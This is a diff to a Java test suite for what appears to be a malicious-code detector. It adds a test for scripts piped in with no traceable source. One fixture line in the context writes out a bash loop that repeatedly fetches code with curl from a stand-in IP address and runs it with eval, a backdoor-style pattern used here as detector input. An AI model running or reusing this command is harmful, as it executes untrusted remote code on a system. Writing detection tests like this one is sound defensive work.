@@ -85,6 +85,17 @@ class DecodedCodeRuleTest {
     }
 
     @Test
+    void a_script_that_came_through_a_pipe_nobody_writes_into_is_a_caution_that_does_not_say_from_where() {
+        Scene scene = Scene.of(program("/usr/bin/bash").root().commandLine("bash", "/dev/fd/63"))
+                .behaviour(Behaviour.NONE.with(Relations.NONE.cameThroughPipe()));
+        assertThat(scene.warning(WarningCode.PIPED_FROM_NETWORK)).hasValueSatisfying(warning -> {
+            assertThat(warning.severity()).isEqualTo(Severity.CAUTION);
+            assertThat(warning.argument()).isEmpty();
+            assertThat(warning.why().en()).contains("it cannot be told where the script came from");
+        });
+    }
+
+    @Test
     void a_text_that_fetches_what_it_runs_is_piped_from_the_network() {
         assertThat(fetched(
                         "/usr/bin/bash", "-c", "while :; do eval \"$(curl -s http://203.0.113.9/c)\"; sleep 9; done"))
